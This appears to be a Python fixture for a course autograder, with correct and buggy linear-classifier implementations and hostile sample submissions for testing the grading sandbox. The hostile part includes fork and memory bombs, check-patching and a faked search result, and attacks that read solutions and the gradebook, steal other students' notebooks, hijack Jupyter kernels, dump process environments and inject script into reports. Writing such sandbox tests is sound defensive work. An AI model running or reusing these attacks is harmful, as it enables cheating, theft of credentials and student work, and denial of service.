"""Implementations of Assignment 1's graded functions, right and wrong.

The soundness suite (tests/test_checks_linear.py) runs every check on every
variant: each CORRECT variant must pass, each WRONG variant must fail.  The
wrong ones are the common bugs of the catalogue; their names say the bug.
"""
import numpy as np


# ---------------------------------------------------------------- SVM: right

def svm_loops(W, X, y, reg):
    N, C = X.shape[0], W.shape[1]
    loss, dW = 0.0, np.zeros_like(W, dtype=np.float64)
    for i in range(N):
        s = X[i] @ W
        for j in range(C):
            if j == y[i]:
                continue
            m = s[j] - s[y[i]] + 1
            if m > 0:
                loss += m
                dW[:, j] += X[i]
                dW[:, y[i]] -= X[i]
    return loss / N + 0.5 * reg * np.sum(W * W), dW / N + reg * W


def svm_vectorised(W, X, y, reg):
    N = X.shape[0]
    s = X @ W
    m = np.maximum(0, s - s[np.arange(N), y][:, None] + 1)
    m[np.arange(N), y] = 0
    g = (m > 0).astype(X.dtype)
    g[np.arange(N), y] = -g.sum(axis=1)
    return m.sum() / N + 0.5 * reg * np.sum(W * W), X.T @ g / N + reg * W


def svm_masked_mean(W, X, y, reg):
    """Another formulation: a boolean mask for the correct class, np.mean."""
    s = X @ W
    correct = np.eye(W.shape[1], dtype=bool)[y]
    m = np.where(correct, 0.0, np.maximum(0, s - s[correct][:, None] + 1))
    g = (m > 0) * 1.0 - correct * (m > 0).sum(axis=1, keepdims=True)
    return float(np.mean(m.sum(axis=1))) + 0.5 * reg * (W ** 2).sum(), \
        X.T.dot(g) / len(y) + reg * W


def svm_subtract_one(W, X, y, reg):
    """Counts the correct class and subtracts the 1 it adds: equivalent."""
    N = X.shape[0]
    s = X @ W
    m = np.maximum(0, s - s[np.arange(N), y][:, None] + 1)
    loss = (m.sum() - N) / N
    g = (m > 0).astype(float)
    g[np.arange(N), y] = 0
    g[np.arange(N), y] = -g.sum(axis=1)
    return loss + 0.5 * reg * np.sum(W * W), X.T @ g / N + reg * W


# ---------------------------------------------------------------- SVM: wrong

def svm_no_reg_in_loss(W, X, y, reg):
    loss, dW = svm_vectorised(W, X, y, reg)
    return loss - 0.5 * reg * np.sum(W * W), dW


def svm_no_reg_in_grad(W, X, y, reg):
    loss, dW = svm_vectorised(W, X, y, reg)
    return loss, dW - reg * W


def svm_reg_per_example(W, X, y, reg):
    loss, dW = svm_vectorised(W, X, y, 0.0)
    N = X.shape[0]
    return loss + N * 0.5 * reg * np.sum(W * W), dW + N * reg * W


def svm_reg_without_half(W, X, y, reg):
    loss, dW = svm_vectorised(W, X, y, reg)
    return loss + 0.5 * reg * np.sum(W * W), dW


def svm_counts_correct_class(W, X, y, reg):
    N = X.shape[0]
    s = X @ W
    m = np.maximum(0, s - s[np.arange(N), y][:, None] + 1)
    g = (m > 0).astype(float)
    g[np.arange(N), y] -= g.sum(axis=1)
    return m.sum() / N + 0.5 * reg * np.sum(W * W), X.T @ g / N + reg * W


def svm_sum_not_mean(W, X, y, reg):
    loss, dW = svm_vectorised(W, X, y, 0.0)
    N = X.shape[0]
    return N * loss + 0.5 * reg * np.sum(W * W), N * dW + reg * W


def svm_grad_not_averaged(W, X, y, reg):
    loss, dW = svm_vectorised(W, X, y, 0.0)
    return loss + 0.5 * reg * np.sum(W * W), X.shape[0] * dW + reg * W


def svm_margin_zero(W, X, y, reg):
    """Delta 0 instead of 1."""
    N = X.shape[0]
    s = X @ W
    m = np.maximum(0, s - s[np.arange(N), y][:, None])
    g = (m > 0).astype(float)
    g[np.arange(N), y] = -g.sum(axis=1)
    return m.sum() / N + 0.5 * reg * np.sum(W * W), X.T @ g / N + reg * W


def svm_grad_missing_correct_class(W, X, y, reg):
    N = X.shape[0]
    loss, _ = svm_vectorised(W, X, y, reg)
    s = X @ W
    m = np.maximum(0, s - s[np.arange(N), y][:, None] + 1)
    m[np.arange(N), y] = 0
    return loss, X.T @ (m > 0).astype(float) / N + reg * W


def svm_grad_wrong_sign(W, X, y, reg):
    """Returns the step instead of the gradient: training climbs the loss."""
    loss, dW = svm_vectorised(W, X, y, reg)
    return loss, -dW


def svm_modifies_X(W, X, y, reg):
    X -= 0.0 * X + 1e-3  # "centres" X in place
    return svm_vectorised(W, X + 1e-3, y, reg)


def svm_modifies_W(W, X, y, reg):
    out = svm_vectorised(W, X, y, reg)
    W *= 1.0000001
    return out


def svm_returns_list(W, X, y, reg):
    return list(svm_vectorised(W, X, y, reg))


def svm_float32_rounding(W, X, y, reg):
    loss, dW = svm_vectorised(W.astype(np.float16), X.astype(np.float16), y, reg)
    return float(loss), dW.astype(W.dtype)


# ------------------------------------------------------------ softmax: right

def softmax_loops(W, X, y, reg):
    N, C = X.shape[0], W.shape[1]
    loss, dW = 0.0, np.zeros_like(W, dtype=np.float64)
    for i in range(N):
        s = X[i] @ W
        s = s - np.max(s)
        p = np.exp(s) / np.sum(np.exp(s))
        loss += -np.log(p[y[i]])
        for j in range(C):
            dW[:, j] += (p[j] - (j == y[i])) * X[i]
    return loss / N + 0.5 * reg * np.sum(W * W), dW / N + reg * W


def softmax_vectorised(W, X, y, reg):
    N = X.shape[0]
    s = X @ W
    s = s - s.max(axis=1, keepdims=True)
    logp = s - np.log(np.exp(s).sum(axis=1, keepdims=True))
    p = np.exp(logp)
    p[np.arange(N), y] -= 1
    return -logp[np.arange(N), y].mean() + 0.5 * reg * np.sum(W * W), X.T @ p / N + reg * W


def softmax_logsumexp(W, X, y, reg):
    """log-sum-exp written with the max added back, one-hot targets."""
    s = X @ W
    mx = s.max(axis=1)
    lse = mx + np.log(np.sum(np.exp(s - mx[:, None]), axis=1))
    onehot = np.eye(W.shape[1])[y]
    loss = np.mean(lse - np.sum(s * onehot, axis=1))
    p = np.exp(s - lse[:, None])
    return loss + 0.5 * reg * np.sum(np.square(W)), X.T @ (p - onehot) / len(y) + reg * W


def softmax_log_softmax(W, X, y, reg):
    """The log-softmax shifted in place on a fresh array, rows picked by a mask."""
    logp = X @ W
    logp -= logp.max(axis=1, keepdims=True)
    logp -= np.log(np.exp(logp).sum(axis=1, keepdims=True))
    correct = np.arange(W.shape[1]) == y[:, None]
    dscores = np.exp(logp) - correct
    return (-np.sum(logp[correct]) / len(y) + 0.5 * reg * np.sum(W * W),
            X.T @ dscores / len(y) + reg * W)


def softmax_plain_log(W, X, y, reg):
    """-log of the (row-shifted) probability: inf only where p underflows to 0,
    which no check case comes near."""
    N = X.shape[0]
    s = X @ W
    e = np.exp(s - np.max(s, axis=1, keepdims=True))
    p = e / np.sum(e, axis=1, keepdims=True)
    loss = -np.mean(np.log(p[np.arange(N), y]))
    p[np.arange(N), y] -= 1
    return loss + 0.5 * reg * np.sum(W * W), X.T @ p / N + reg * W


def softmax_log_eps(W, X, y, reg):
    """log(p + 1e-18), a common guard: it caps the loss of a row at 41.4, which
    only matters beyond a gap of ~20 between the row's maximum and its correct
    score (no check case has one)."""
    N = X.shape[0]
    s = X @ W
    s -= s.max(axis=1, keepdims=True)
    p = np.exp(s) / np.exp(s).sum(axis=1, keepdims=True)
    loss = np.sum(-np.log(p[range(N), list(y)] + 1e-18)) / N
    p[range(N), list(y)] -= 1
    return loss + 0.5 * reg * np.sum(W ** 2), X.T.dot(p) / N + reg * W


# ------------------------------------------------------------ softmax: wrong

def softmax_no_shift(W, X, y, reg):
    N = X.shape[0]
    e = np.exp(X @ W)
    p = e / e.sum(axis=1, keepdims=True)
    loss = -np.log(p[np.arange(N), y]).mean()
    p[np.arange(N), y] -= 1
    return loss + 0.5 * reg * np.sum(W * W), X.T @ p / N + reg * W


def softmax_no_reg_in_loss(W, X, y, reg):
    loss, dW = softmax_vectorised(W, X, y, reg)
    return loss - 0.5 * reg * np.sum(W * W), dW


def softmax_no_reg_in_grad(W, X, y, reg):
    loss, dW = softmax_vectorised(W, X, y, reg)
    return loss, dW - reg * W


def softmax_reg_per_example(W, X, y, reg):
    loss, dW = softmax_vectorised(W, X, y, 0.0)
    N = X.shape[0]
    return loss + N * 0.5 * reg * np.sum(W * W), dW + N * reg * W


def softmax_sum_not_mean(W, X, y, reg):
    loss, dW = softmax_vectorised(W, X, y, 0.0)
    N = X.shape[0]
    return N * loss + 0.5 * reg * np.sum(W * W), N * dW + reg * W


def softmax_log10(W, X, y, reg):
    loss, dW = softmax_vectorised(W, X, y, 0.0)
    return loss / np.log(10) + 0.5 * reg * np.sum(W * W), dW + reg * W


def softmax_grad_missing_minus_one(W, X, y, reg):
    loss, _ = softmax_vectorised(W, X, y, reg)
    s = X @ W
    s = s - s.max(axis=1, keepdims=True)
    p = np.exp(s) / np.exp(s).sum(axis=1, keepdims=True)
    return loss, X.T @ p / X.shape[0] + reg * W


def softmax_shift_in_place(W, X, y, reg):
    """Shifts X (the caller's array) instead of the scores."""
    X -= X.max()
    return softmax_vectorised(W, X, y, reg)


def softmax_global_shift(W, X, y, reg):
    """Subtracts one global max instead of each row's: right while the rows'
    scores are close, nan when they sit ~1000 apart (a row far below the
    maximum has exp = 0 for every class)."""
    N = X.shape[0]
    s = X @ W
    s = s - s.max()
    e = np.exp(s)
    p = e / e.sum(axis=1, keepdims=True)
    with np.errstate(divide="ignore", invalid="ignore"):
        loss = -np.log(p[np.arange(N), y]).mean()
    p[np.arange(N), y] -= 1
    return loss + 0.5 * reg * np.sum(W * W), X.T @ p / N + reg * W


# ------------------------------------------------------------ penalties

def l2_right(W, reg):
    return 0.5 * reg * np.sum(W * W), reg * W


def l1_right(W, reg):
    return reg * np.sum(np.abs(W)), reg * np.sign(W)


def elastic_right(W, reg, l1_ratio=0.5):
    return (reg * (l1_ratio * np.sum(np.abs(W)) + (1 - l1_ratio) * 0.5 * np.sum(W * W)),
            reg * (l1_ratio * np.sign(W) + (1 - l1_ratio) * W))


def elastic_loops(W, reg, l1_ratio=0.5):
    p, g = 0.0, np.zeros_like(W)
    for i in np.ndindex(W.shape):
        w = W[i]
        p += l1_ratio * abs(w) + (1 - l1_ratio) * 0.5 * w * w
        g[i] = l1_ratio * (1.0 if w > 0 else -1.0 if w < 0 else 0.0) + (1 - l1_ratio) * w
    return reg * p, reg * g


def l2_no_half(W, reg):
    return reg * np.sum(W * W), 2 * reg * W


def l2_grad_2x(W, reg):
    return 0.5 * reg * np.sum(W * W), 2 * reg * W


def l1_grad_is_w(W, reg):
    return reg * np.sum(np.abs(W)), reg * W


def l1_grad_kink_one(W, reg):
    return reg * np.sum(np.abs(W)), reg * np.where(W >= 0, 1.0, -1.0)


def l1_half(W, reg):
    return 0.5 * reg * np.sum(np.abs(W)), 0.5 * reg * np.sign(W)


def elastic_ratio_swapped(W, reg, l1_ratio=0.5):
    return elastic_right(W, reg, 1 - l1_ratio)


def elastic_no_half(W, reg, l1_ratio=0.5):
    return (reg * (l1_ratio * np.sum(np.abs(W)) + (1 - l1_ratio) * np.sum(W * W)),
            reg * (l1_ratio * np.sign(W) + 2 * (1 - l1_ratio) * W))


def l2_in_place(W, reg):
    W *= reg
    return 0.5 * np.sum(W * W) / reg, W.copy()


# ------------------------------------------------------------ soft-thresholding

def soft_threshold_right(W, threshold):
    return np.sign(W) * np.maximum(np.abs(W) - threshold, 0.0)


def soft_threshold_clip(W, threshold):
    """What lies outside the band [-t, t]."""
    return W - np.clip(W, -threshold, threshold)


def soft_threshold_where(W, threshold):
    return np.where(np.abs(W) > threshold, W - threshold * np.sign(W), 0.0)


def soft_threshold_two_sided(W, threshold):
    """The positive part shrunk down plus the negative part shrunk up."""
    return np.maximum(W - threshold, 0) + np.minimum(W + threshold, 0)


def soft_threshold_ratio(W, threshold):
    """W scaled by max(1 - t / |W|, 0): 0 / 0 at W == 0 gives 0 * 0 = 0 here."""
    return W * np.maximum(1 - threshold / np.abs(W), 0)


def soft_threshold_loops(W, threshold):
    out = np.zeros_like(W)
    for i in np.ndindex(W.shape):
        if W[i] > threshold:
            out[i] = W[i] - threshold
        elif W[i] < -threshold:
            out[i] = W[i] + threshold
    return out


def soft_threshold_hard(W, threshold):
    """Hard thresholding: the small weights become 0, the others stay."""
    return np.where(np.abs(W) > threshold, W, 0.0)


def soft_threshold_no_clamp(W, threshold):
    """The subgradient step of the L1 penalty: small weights cross 0."""
    return W - threshold * np.sign(W)


def soft_threshold_relu(W, threshold):
    """One-sided: every negative weight becomes 0."""
    return np.maximum(W - threshold, 0)


def soft_threshold_no_sign(W, threshold):
    return np.maximum(np.abs(W) - threshold, 0)


def soft_threshold_clip_only(W, threshold):
    return np.clip(W, -threshold, threshold)


def soft_threshold_in_place(W, threshold):
    """Right values, but the caller's W is changed (and returned)."""
    W[np.abs(W) <= threshold] = 0.0
    W -= threshold * np.sign(W)
    return W


def soft_threshold_nearly_zero(W, threshold):
    """Shrinks by a factor instead of clamping: the dead zone gives ~1e-13, not 0."""
    return np.where(np.abs(W) > threshold, W - threshold * np.sign(W), 1e-13 * W)


# ----------------------------------------------------------- classifier

class ClassifierRight:
    def __init__(self, loss_fn):
        self.loss_fn = loss_fn
        self.W = None

    def train(self, X, y, *, learning_rate=1e-3, reg=1e-5, num_iters=100,
              batch_size=200, rng=None, verbose=False):
        rng = np.random.default_rng() if rng is None else rng
        N, D = X.shape
        if self.W is None:
            self.W = 0.001 * rng.standard_normal((D, int(y.max()) + 1))
        history = []
        for _ in range(num_iters):
            idx = rng.choice(N, batch_size, replace=True)
            loss, dW = self.loss_fn(self.W, X[idx], y[idx], reg)
            self.W = self.W - learning_rate * dW
            history.append(loss)
        return history

    def predict(self, X):
        return np.argmax(X @ self.W, axis=1)


class ClassifierNoReplacement(ClassifierRight):
    """Samples without replacement, updates in place: also right."""

    def train(self, X, y, *, learning_rate=1e-3, reg=1e-5, num_iters=100,
              batch_size=200, rng=None, verbose=False):
        rng = np.random.default_rng() if rng is None else rng
        if self.W is None:
            self.W = 0.001 * rng.standard_normal((X.shape[1], int(np.max(y)) + 1))
        losses = []
        for it in range(num_iters):
            idx = rng.permutation(X.shape[0])[:batch_size]
            loss, dW = self.loss_fn(self.W, X[idx], y[idx], reg=reg)
            self.W -= learning_rate * dW
            losses.append(float(loss))
            if verbose and it % 100 == 0:
                print(it, loss)
        return losses


class ClassifierGlobalRandom(ClassifierRight):
    """Ignores the Generator and samples with np.random."""

    def train(self, X, y, *, rng=None, **kw):
        return super().train(X, y, rng=np.random.default_rng(), **kw)


class ClassifierUphill(ClassifierRight):
    def train(self, X, y, *, learning_rate=1e-3, **kw):
        return super().train(X, y, learning_rate=-learning_rate, **kw)


class ClassifierFirstRows(ClassifierRight):
    """Always takes the first batch_size rows."""

    def train(self, X, y, *, learning_rate=1e-3, reg=1e-5, num_iters=100,
              batch_size=200, rng=None, verbose=False):
        rng = np.random.default_rng() if rng is None else rng
        if self.W is None:
            self.W = 0.001 * rng.standard_normal((X.shape[1], int(y.max()) + 1))
        out = []
        for _ in range(num_iters):
            loss, dW = self.loss_fn(self.W, X[:batch_size], y[:batch_size], reg)
            self.W = self.W - learning_rate * dW
            out.append(loss)
        return out


class ClassifierShuffledLabels(ClassifierRight):
    """Indexes X and y with different samples."""

    def train(self, X, y, *, learning_rate=1e-3, reg=1e-5, num_iters=100,
              batch_size=200, rng=None, verbose=False):
        rng = np.random.default_rng() if rng is None else rng
        if self.W is None:
            self.W = 0.001 * rng.standard_normal((X.shape[1], int(y.max()) + 1))
        out = []
        for _ in range(num_iters):
            loss, dW = self.loss_fn(self.W, X[rng.choice(len(X), batch_size)],
                                    y[rng.choice(len(X), batch_size)], reg)
            self.W = self.W - learning_rate * dW
            out.append(loss)
        return out


class ClassifierReinitialises(ClassifierRight):
    def train(self, X, y, **kw):
        self.W = None
        return super().train(X, y, **kw)


class ClassifierNoReg(ClassifierRight):
    def train(self, X, y, *, reg=1e-5, **kw):
        return super().train(X, y, reg=0.0, **kw)


class ClassifierPredictsScores(ClassifierRight):
    def predict(self, X):
        return np.max(X @ self.W, axis=1)


class ClassifierPredictArgmin(ClassifierRight):
    def predict(self, X):
        return np.argmin(X @ self.W, axis=1)


class ClassifierBigInit(ClassifierRight):
    def train(self, X, y, *, rng=None, **kw):
        rng = np.random.default_rng() if rng is None else rng
        if self.W is None:
            self.W = rng.standard_normal((X.shape[1], int(y.max()) + 1))
        return super().train(X, y, rng=rng, **kw)


CORRECT = {
    "svm": [svm_loops, svm_vectorised, svm_masked_mean, svm_subtract_one],
    "softmax": [softmax_loops, softmax_vectorised, softmax_logsumexp, softmax_log_softmax,
                softmax_plain_log, softmax_log_eps],
    "l2": [l2_right],
    "l1": [l1_right],
    "elastic_net": [elastic_right, elastic_loops],
    "soft_threshold": [soft_threshold_right, soft_threshold_clip, soft_threshold_where,
                       soft_threshold_two_sided, soft_threshold_ratio, soft_threshold_loops],
    "classifier": [ClassifierRight, ClassifierNoReplacement],
}

WRONG = {
    "svm": [svm_no_reg_in_loss, svm_no_reg_in_grad, svm_reg_per_example,
            svm_reg_without_half, svm_counts_correct_class, svm_sum_not_mean,
            svm_grad_not_averaged, svm_margin_zero, svm_grad_missing_correct_class,
            svm_grad_wrong_sign, svm_modifies_X, svm_modifies_W, svm_returns_list,
            svm_float32_rounding],
    "softmax": [softmax_no_shift, softmax_no_reg_in_loss, softmax_no_reg_in_grad,
                softmax_reg_per_example, softmax_sum_not_mean, softmax_log10,
                softmax_grad_missing_minus_one, softmax_shift_in_place, softmax_global_shift],
    "l2": [l2_no_half, l2_grad_2x, l2_in_place],
    "l1": [l1_grad_is_w, l1_grad_kink_one, l1_half],
    "elastic_net": [elastic_ratio_swapped, elastic_no_half],
    "soft_threshold": [soft_threshold_hard, soft_threshold_no_clamp, soft_threshold_relu,
                       soft_threshold_no_sign, soft_threshold_clip_only, soft_threshold_in_place,
                       soft_threshold_nearly_zero],
    "classifier": [ClassifierGlobalRandom, ClassifierUphill, ClassifierFirstRows,
                   ClassifierShuffledLabels, ClassifierReinitialises, ClassifierNoReg,
                   ClassifierPredictsScores, ClassifierPredictArgmin, ClassifierBigInit],
}


# ===================================================== sample submissions
#
# The grading pipeline is proven on sample submissions made from the variants
# above (cs231n.grading.samples.write_samples).  BASE is the correct default
# of every answer cell; SAMPLES says what each submission changes and what
# grade it must get.
#
# How points are decided (cs231n/grading/pipeline.py): the test cell of every
# function in cs231n.checks.linear.GRADED gets its points from the integrity
# pass, which loads the answer cell that defines the function in a sandboxed
# worker (all answer cells before it only on a NameError) and checks it on
# unseen inputs.  test_best_val (svm.ipynb) and test_best_val_accuracy
# (softmax.ipynb), the cells of linear.RECOMPUTED, need nbgrader's pass (the
# notebook ran down to them and its value reached 0.90) and the grader's own
# run of the notebook's search with the student's LinearClassifier and losses
# (through the worker; accuracy measured in the grader); they score 0 whenever
# nbgrader's autograde of that notebook fails.  Any test cell that nbgrader
# passed without printing its checks' success lines scores 0 (check-bypassed).

from cs231n.grading.samples import (Sample, delete_cell, delete_notebook,  # noqa: E402
                                    duplicate_cell, edit_cell, move_cell,
                                    rename_notebook, replace_notebook)

BASE = {
    "svm_loss_naive": [svm_loops],
    "svm_loss_vectorized": [svm_vectorised],
    "l2_penalty": [l2_right],
    "l1_penalty": [l1_right],
    "elastic_net_penalty": [elastic_right],
    "soft_threshold": [soft_threshold_right],
    "linear_classifier": [ClassifierRight],
    "softmax_loss_naive": [softmax_loops],
    "softmax_loss_vectorized": [softmax_vectorised],
}

SVM_TESTS = {"test_svm_loss_naive", "test_svm_loss_vectorized", "test_l2_penalty",
             "test_l1_penalty", "test_elastic_net_penalty", "test_soft_threshold",
             "test_linear_classifier", "test_best_val"}
SOFTMAX_TESTS = {"test_softmax_loss_naive", "test_softmax_loss_vectorized",
                 "test_best_val_accuracy"}


# ------------------------------------------------------- hostile answers
# Never call these: they are the code of hostile sample submissions.

def hostile_memory_bomb(W, X, y, reg):
    """Keeps every block it allocates, until a memory limit stops it."""
    hoard = []
    while True:
        hoard.append(np.ones(2 ** 24))  # 128 MB, written, so really resident


def hostile_fork_bomb(W, reg):
    import os
    while True:
        os.fork()


def hostile_prints_10mb(W, X, y, reg, _printed=[]):
    """Prints 10 MB on its first call, then computes the right loss."""
    if not _printed:
        _printed.append(True)
        print("spam " * 2_000_000)
    return softmax_loops(W, X, y, reg)


def hostile_os_exit(W, reg, l1_ratio=0.5):
    import os
    os._exit(1)


def hostile_reads_solution(W, X, y, reg):
    """Runs the instructor's solution, read from the course folder
    (autograded/<student>/a1_linear/../../../solutions)."""
    import json
    with open("../../../solutions/a1_linear/svm.ipynb", encoding="utf-8") as f:
        nb = json.load(f)
    ns = {"np": np}
    for cell in nb["cells"]:
        if cell["cell_type"] == "code" and cell["metadata"].get("nbgrader", {}).get("solution"):
            exec("".join(cell["source"]), ns)
    return ns["svm_loss_vectorized"](W, X, y, reg)


def hostile_reads_gradebook(W, X, y, reg):
    """Reads the gradebook, hides the refusal, then computes the right loss."""
    try:
        with open("../../../gradebook.db", "rb") as f:
            f.read()
    except OSError:
        pass
    return svm_loops(W, X, y, reg)


def hostile_writes_gradebook(W, reg):
    """Appends to the gradebook, hides the refusal, then computes the right penalty."""
    try:
        with open("../../../gradebook.db", "ab") as f:
            f.write(b"owned")
    except OSError:
        pass
    return l2_right(W, reg)


def hostile_writes_tmp(W, reg, l1_ratio=0.5):
    with open("/tmp/owned.txt", "w") as f:
        f.write("owned\n")
    return elastic_right(W, reg, l1_ratio)


LOOP_FOREVER = """
while True:  # at module level: runs when the cell runs
    pass
"""

SWALLOW_INTERRUPTS = """
while True:
    try:
        pass
    except BaseException:
        pass
"""

IGNORE_INTERRUPTS = """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)  # nbgrader's interrupt does nothing now
while True:
    pass
"""

SYS_EXIT = """
import sys

sys.exit("done")
"""

ABORT = """
import os

os.abort()
"""

PATCH_ASSERT_ALLCLOSE = "np.testing.assert_allclose = lambda *a, **k: None\n"
PATCH_ALLCLOSE = "np.allclose = lambda *a, **k: True\n"
PATCH_CHECKS = "checks.check_svm_loss = lambda *a, **k: None\n"

# The search cell of svm.ipynb (section 7, cell id svm-37), replaced by its
# "result": no training at all.
FAKE_SEARCH = """
# The search took too long on my laptop; this is what it found.
results = {(1e-1, 1e-3): (0.99, 0.99)}
best_params = (1e-1, 1e-3)
best_classifier = LinearClassifier(svm_loss_vectorized)
best_classifier.W = np.zeros((data["X_train"].shape[1], len(data["class_names"])))
best_val = 0.99
"""

# An IPython input transformer: every later cell that calls a check runs
# `pass` instead, so it raises nothing and nbgrader gives it full marks.
SKIP_CHECKS = """
def _skip_checks(lines):
    if any("checks.check_" in line for line in lines):
        return ["pass\\n"]
    return lines


get_ipython().input_transformers_post.append(_skip_checks)
"""

PATCH_BUILTINS = """
import builtins

_real_import = builtins.__import__


def _traced_import(name, *args, **kwargs):
    return _real_import(name, *args, **kwargs)


builtins.__import__ = _traced_import
builtins.print = lambda *args, **kwargs: None
"""

# svm.ipynb cut off in the middle of a save.
TRUNCATED_JSON = (b'{\n "cells": [\n  {\n   "cell_type": "code",\n   "execution_count": null,\n'
                  b'   "id": "svm-09",\n   "metadata": {},\n   "source": [\n'
                  b'    "def svm_loss_naive(W, X, y, reg):\\n",\n    "    loss = 0.')


# ---------------------------------------------- attacks of a red team (issue 10)
# Never call these either: what a hostile class tried on the old sandbox.

def attack_reads_other_students(W, X, y, reg):
    """Looks for other students' work where the old grader left it (their
    autograded folders beside its own, the integrity workers' spec files in
    /tmp), keeps a copy in its folder (for its feedback) and runs the first
    svm_loss_vectorized it finds as its own."""
    import glob
    import json
    found = (glob.glob("../../*/a1_linear/svm.ipynb") + glob.glob("../../../submitted/*/*/svm.ipynb")
             + glob.glob("/tmp/cs231n-integrity-*/spec.json"))
    for path in found:
        with open(path, encoding="utf-8") as f:
            text = f.read()
        with open("stolen.txt", "a", encoding="utf-8") as f:
            f.write(text)
        ns = {"np": np}
        for cell in json.loads(text).get("cells", []):
            source = cell.get("source", "")
            try:
                exec("".join(source) if isinstance(source, list) else source, ns)
            except Exception:
                pass
        if "svm_loss_vectorized" in ns:
            return ns["svm_loss_vectorized"](W, X, y, reg)
    return 0.0, np.zeros_like(W)


def attack_hijacks_kernels(W, reg):
    """Looks for other kernels' connection files (their keys): beside its own
    (its command line names it), in Jupyter's runtime folder and in /tmp, and
    sends each an execute_request that writes into that student's folder and
    exits the kernel.  Then computes the right penalty."""
    import glob
    import os
    args = open("/proc/self/cmdline", "rb").read().split(b"\0")
    own = [a.decode() for prev, a in zip(args, args[1:]) if prev == b"-f"]
    found = glob.glob("/tmp/*/connections/*/kernel*.json")
    found += glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/kernel-*.json"))
    for path in own:
        found += glob.glob(os.path.join(os.path.dirname(os.path.dirname(path)), "*", "*.json"))
    for path in sorted(set(found) - set(own)):
        try:
            from jupyter_client import BlockingKernelClient
            kc = BlockingKernelClient(connection_file=path)
            kc.load_connection_file()
            kc.start_channels()
            kc.execute("open('HIJACKED', 'w').write('owned'); import os; os._exit(1)")
            kc.stop_channels()
        except Exception:
            pass
    return l2_right(W, reg)


def attack_network(W, reg, l1_ratio=0.5):
    """Tries the network: Python sockets to the host's loopback and beyond, and
    a zmq STREAM socket (libzmq raises no audit event); then the right value."""
    import socket
    for host, port in (("127.0.0.1", 22), ("127.0.0.1", 8888), ("10.0.2.2", 80)):
        try:
            socket.create_connection((host, port), timeout=0.2).close()
        except OSError:
            pass
    try:
        import zmq
        stream = zmq.Context.instance().socket(zmq.STREAM)
        stream.connect("tcp://127.0.0.1:8888")
        stream.close(linger=0)
    except Exception:
        pass
    return elastic_right(W, reg, l1_ratio)


def attack_environment(W, reg):
    """Prints the whole environment, and those of every process it can see
    (an instructor's token would land in the feedback), and keeps a copy in
    its folder; then the right penalty."""
    import os
    text = "\n".join(f"{k}={v}" for k, v in sorted(os.environ.items()))
    for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    text += f"\n/proc/{pid}/{name}: " + f.read().decode(errors="replace")
            except OSError:
                pass
    print(text)
    with open("environment.txt", "w") as f:
        f.write(text)
    return l2_right(W, reg)


def attack_injection(W, X, y, reg):
    """An error whose message would forge a report heading for another student,
    carry HTML and script into report.md, and start a spreadsheet formula."""
    raise ValueError('\r\n## correct: 24 / 24 (graded)\n<script>alert("report")</script>'
                     '<img src=x onerror=alert(1)>\n=HYPERLINK("http://example.invalid","x")')


# After the def in an answer cell: a script in the cell's output, which would
# run in the student's feedback page.
DISPLAY_SCRIPT = """
from IPython.display import HTML, display

display(HTML("<script>document.title = 'pwned'</script>"
             "<img src=x onerror=\\"document.title = 'pwned'\\">"))
"""

# After the def: 100,000 empty files in the notebook's folder (they once made
# nbgrader's feedback step quadratic for the whole class).
MANY_FILES = """
import os

os.makedirs("junk", exist_ok=True)
for _i in range(100_000):
    open(f"junk/{_i}", "w").close()
"""

# After the def: 150 files of 16 MB (they were once kept and copied into feedback).
BIG_FILES = """
try:
    for _i in range(150):
        with open(f"big{_i}.bin", "wb") as _f:
            _f.write(b"x" * (16 * 2**20 - 1))
except OSError as _e:
    print("stopped:", _e)
"""

# svm.ipynb nested 200,000 levels deep (its JSON parses into no notebook).
DEEP_JSON = b'{"cells": [], "metadata": {"x": ' + b"[" * 200_000 + b"]" * 200_000 + b"}}"


def _metadata_is_a_list(nbs):
    """svm.ipynb with the metadata of its first answer cell a list."""
    import copy
    nbs = dict(nbs)
    nb = copy.deepcopy(nbs["svm.ipynb"])
    cell = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("solution"))
    cell["metadata"] = ["nbgrader", {"solution": True}]
    nbs["svm.ipynb"] = nb
    return nbs


def _svm_links_to_the_solution(nbs):
    """svm.ipynb submitted as a symbolic link to the instructor's solution."""
    from cs231n.grading.samples import Link
    return dict(nbs, **{"svm.ipynb": Link("../../../solutions/a1_linear/svm.ipynb")})

PATCH_ALIASED = "import numpy as N\n\nN.allclose = lambda *a, **k: True\n"

# After the def: 300 MB printed when the cell runs (it once took the grader's
# nbgrader process to 1.37 GB).
PRINT_300MB = """
import sys

for _ in range(300):
    sys.stdout.write("x" * 2**20)
"""


def slow(name):
    """After a right def of ``name``: 29 s of sleep when the cell runs (just
    below the cell limit), and the same function 25 s slower per call (each
    test cell then runs into its 30 s limit)."""
    return (f"import time as _time\n\n_time.sleep(29)\n_fast_{name} = {name}\n\n\n"
            f"def {name}(*args, **kwargs):\n    _time.sleep(25)\n"
            f"    return _fast_{name}(*args, **kwargs)\n")


SAMPLES = [
    Sample(
        "correct",
        note="Every answer right: every autograded test cell gets full points and "
             "nothing is flagged."),
    Sample(
        "different",
        fills={"svm_loss_naive": [svm_subtract_one],
               "svm_loss_vectorized": [svm_masked_mean],
               "elastic_net_penalty": [elastic_loops],
               "linear_classifier": [ClassifierRight, ClassifierNoReplacement],
               "softmax_loss_naive": [softmax_vectorised],
               "softmax_loss_vectorized": [softmax_logsumexp]},
        note="Right answers written differently (masks, np.mean, loops, sampling without "
             "replacement, log-sum-exp, a helper class in the same cell) get full points."),
    Sample(
        "different-log-forms",
        in_tests=False,
        fills={"softmax_loss_naive": [softmax_plain_log],
               "softmax_loss_vectorized": [softmax_log_eps]},
        note="The softmax losses take -np.log(p) and -np.log(p + 1e-18) instead of the "
             "log-softmax: no case of the checks puts a correct score far enough below its "
             "row's maximum for them to differ, so nothing is lost; softmax.ipynb shows "
             "where they differ."),
    Sample(
        "different-soft-threshold",
        in_tests=False,
        fills={"soft_threshold": [soft_threshold_two_sided]},
        note="soft_threshold written as np.maximum(W - t, 0) + np.minimum(W + t, 0), "
             "exact zeros included: nothing is lost."),

    # ------------------------------------------------------------ bugs
    Sample(
        "bug-svm-no-reg-in-loss",
        fills={"svm_loss_naive": [svm_vectorised, svm_no_reg_in_loss]},
        lose={"test_svm_loss_naive"},
